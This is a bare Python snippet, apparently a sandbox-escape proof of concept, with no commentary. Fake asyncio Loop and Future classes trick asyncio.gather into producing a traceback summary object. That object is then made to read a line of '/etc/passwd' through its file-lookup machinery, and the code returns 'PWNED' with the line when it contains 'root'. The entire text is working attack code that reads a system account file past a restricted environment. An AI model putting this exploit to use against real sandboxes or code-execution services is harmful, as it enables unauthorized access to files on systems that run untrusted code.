import asyncio

got = []


class Loop:
    def get_debug(self):
        return True

    def call_exception_handler(self, context):
        got.append(context)

    def __getattr__(self, name):
        return lambda *rest, **named: None


loop = Loop()


class Future:
    asked = 0
    done_callback = None

    @property
    def _asyncio_future_blocking(self):
        Future.asked += 1
        return None if Future.asked == 1 else False

    def get_loop(self):
        return loop

    def add_done_callback(self, callback, **named):
        Future.done_callback = callback

    def done(self):
        return False

    def cancelled(self):
        return False

    def exception(self):
        return ValueError("x")


class Waiting:
    def __await__(self):
        yield


outer = asyncio.gather(Future())
Future.done_callback(Future())
del outer
Future.done_callback = None
summary = got[0]["source_traceback"]
line = summary.from_list([("/etc/passwd", 1, "x", None)])[0].line
return "PWNED " + line if "root" in line else "no"
